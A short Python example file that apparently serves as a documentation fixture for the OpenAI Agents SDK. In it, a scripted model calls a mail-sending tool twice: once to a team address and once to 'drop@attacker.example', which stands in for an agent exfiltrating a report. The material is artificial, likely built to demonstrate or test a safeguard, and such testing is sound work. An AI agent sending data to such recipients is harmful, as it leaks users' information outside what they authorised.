"""What docs/frameworks.md imports as ``my_agent``, for OpenAI Agents: prints what happens."""

from typing import Any

from agents import function_tool, set_tracing_disabled
from agents.testing import ModelStep, ScriptedModel, assistant_message, function_call

# Its tracing would call home.
set_tracing_disabled(True)


def finish(call: Any) -> Any:
    for item in call.input:
        if item.get("type") == "function_call_output":
            print("read:", item["output"])
    return [assistant_message("Done.")]


model = ScriptedModel(
    [
        [
            function_call("send_report", {"to": "team@example.com"}, call_id="call_0"),
            function_call("send_report", {"to": "drop@attacker.example"}, call_id="call_1"),
        ],
        ModelStep.respond(finish),
    ]
)


@function_tool
def send_report(to: str) -> str:
    """Sends a report by mail."""
    print("sent to", to)
    return f"sent to {to}"


tools = [send_report]
